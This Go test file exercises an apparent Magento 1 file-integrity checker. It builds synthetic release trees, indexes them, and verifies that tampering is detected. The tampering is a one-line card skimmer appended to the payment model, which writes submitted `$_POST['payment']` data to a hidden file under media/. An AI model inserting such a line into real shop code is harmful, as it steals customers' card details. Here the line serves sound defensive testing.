package main

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/mageflow/mageflow/internal/m1/m1core"
)

// release writes a small synthetic release tree (not Magento code).
func release(t *testing.T, dir, patch string) {
	t.Helper()
	files := map[string]string{
		"index.php":            "<?php\nrequire 'app/Mage.php';\n",
		"app/Mage.php":         "<?php\nclass Mage {\n    public static function getVersionInfo()\n    {\n        return array('major' => '1', 'minor' => '9', 'revision' => '4', 'patch' => '" + patch + "');\n    }\n}\n",
		"app/etc/config.xml":   "<config/>\n",
		"LICENSE.txt":          "not in scope\n",
		"app/code/local/A.php": "<?php // not in scope\n",
		"app/code/core/Mage/Payment/Model/Method/Cc.php": "<?php\nclass Mage_Payment_Model_Method_Cc\n{\n    public function validate()\n    {\n        return $this; // " + patch + "\n    }\n}\n",
	}
	for i := range 30 {
		files[fmt.Sprintf("js/lib/f%d.js", i)] = fmt.Sprintf("var f%d = %d;\n", i, i)
	}
	files["js/lib/f0.js"] += "// " + patch + "\n" // releases differ in more than Mage.php
	files["js/lib/f1.js"] += "// " + patch + "\n"
	for p, c := range files {
		full := filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// TestGenerateAndCheck builds an index from two release trees (in two
// runs, extending the first), then checks a store of the first release
// with a stealer appended to the payment model and the second release's
// Mage.php applied as a patch.
func TestGenerateAndCheck(t *testing.T) {
	tmp := t.TempDir()
	a, b, store := filepath.Join(tmp, "a"), filepath.Join(tmp, "b"), filepath.Join(tmp, "store")
	release(t, a, "4")
	release(t, b, "5")
	release(t, store, "4")
	index := filepath.Join(tmp, "m.gz")
	if err := run(index, true, "", []string{"1.9.4.4=" + a}, nil); err != nil {
		t.Fatal(err)
	}
	if err := run(index, false, "", []string{"1.9.4.5=" + b}, nil); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(index)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	ix, err := m1core.Decode(f)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(ix.Versions(), []string{"1.9.4.4", "1.9.4.5"}) || len(ix.Files("1.9.4.4")) != 34 {
		t.Fatalf("versions %v, %d files", ix.Versions(), len(ix.Files("1.9.4.4")))
	}
	cc := filepath.Join(store, "app/code/core/Mage/Payment/Model/Method/Cc.php")
	fh, err := os.OpenFile(cc, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	fh.WriteString("@file_put_contents('media/.c', serialize($_POST['payment']), FILE_APPEND);\n")
	fh.Close()
	src, _ := os.ReadFile(filepath.Join(b, "app/Mage.php"))
	if err := os.WriteFile(filepath.Join(store, "app/Mage.php"), src, 0o644); err != nil {
		t.Fatal(err)
	}
	res, err := m1core.Check(context.Background(), store, m1core.Options{Index: ix})
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != m1core.StatusModified || len(res.Modified) != 1 || res.Modified[0].ForeignLines != 1 ||
		res.Modified[0].Foreign[0].N != 9 || !strings.Contains(res.Modified[0].Foreign[0].Text, "$_POST['payment']") {
		t.Fatalf("%s: %+v", res.Summary(), res.Modified)
	}
	if !slices.Equal(res.Known, []string{"app/Mage.php"}) || len(res.Missing)+len(res.Added) != 0 {
		t.Fatalf("known %v missing %v added %v", res.Known, res.Missing, res.Added)
	}
}
